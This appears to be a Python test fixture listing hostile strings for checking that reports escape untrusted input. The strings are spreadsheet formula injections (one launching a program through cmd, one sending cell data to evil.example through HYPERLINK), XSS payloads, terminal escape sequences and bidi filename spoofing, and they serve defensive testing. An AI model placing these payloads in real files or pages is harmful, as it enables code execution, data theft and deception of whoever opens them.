"""Text that somebody may put into an account id, a note or a path, so that it acts where a report shows it.

Each is a name and the text. None holds a lone surrogate, which UTF-8 cannot carry; `SURROGATE` is for names of files.
"""

from __future__ import annotations

HOSTILE = {
    # spreadsheets
    "a formula": "=1+1",
    "a formula that starts a program": "=cmd|' /C calc'!A0",
    "a formula that calls out": '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "a formula with a plus": "+1+1",
    "a formula with a minus": "-2+3",
    "an old function": "@SUM(1+1)",
    "a formula behind a tab": "\t=1+1",
    "a formula behind a carriage return": "\r=1+1",
    "a full-width formula": "＝1+1",
    "a formula behind a semicolon": "a;=1+1",
    "a formula of an array": "{=1+1}",
    "a quotation mark and a comma": '","=1+1',
    "a number with zeros before it": "007",
    "a number too long for a double": "12345678901234567890",
    "an error value": "#REF!",
    "an escape of XLSX": "_x000D_",
    # markup
    "a script": "<script>alert(1)</script>",
    "an image that runs": "<img src=x onerror=alert(1)>",
    "the end of an attribute": "\"'><b>",
    "a comment": "<!-- -->",
    "an entity": "&lt;b&gt; &amp;",
    "a link": "[click](javascript:alert(1))",
    "an image": "![x](http://evil.example/x.png)",
    "a bare address": "https://evil.example/",
    "an address with www": "www.evil.example",
    "a mail address": "someone@evil.example",
    "a mention": "@somebody",
    "an issue": "org/repo#1",
    "a pipe": "a|b|c",
    "a backslash before a pipe": "a\\|b",
    "backticks": "`a``b```",
    "a lone backtick": "`",
    "emphasis": "**bold** _it_ ~~gone~~",
    "a formula of mathematics": "$x$ $$y$$",
    "a heading": "# heading",
    "a rule": "---",
    "markup of the terminal library": "[red]red[/red]",
    # labels and quotes
    "the end of a label": 'a",b="c',
    "a sample of its own": 'a"} 1\nsla_audit_compensation 0',
    "a backslash at the end": "a\\",
    "an escaped newline": "a\\nb",
    # lines and controls
    "a newline": "a\nb",
    "a carriage return": "a\rb",
    "a line separator": "a\u2028b",
    "a null": "a\x00b",
    "a bell": "a\x07b",
    "a terminal colour": "\x1b[31mred\x1b[0m",
    "a terminal title": "\x1b]0;title\x07",
    "a control sequence in one byte": "\x9b31mred",
    "a delete": "a\x7fb",
    "a backspace": "good\x08\x08\x08\x08evil",
    "a character that no XML has": "a\ufffeb",
    # what looks like something else
    "a mark that turns the direction": "abc\u202egpj.exe",
    "an isolate": "\u2066abc\u2069",
    "a zero-width space": "acct\u200b-1",
    "a zero-width joiner": "acct\u200d-1",
    "a byte order mark": "\ufeffacct",
    "a no-break space": "acct\u00a01",
    "a combining mark": "e\u0301",
    "an emoji": "👩‍💻",
    "Chinese": "京东云 智能合图",
    # sizes
    "a long text": "x" * 4_000,
}

SURROGATE = "bad-\udcff-name"
"""The name of a file whose bytes are not UTF-8, as Python gives it."""
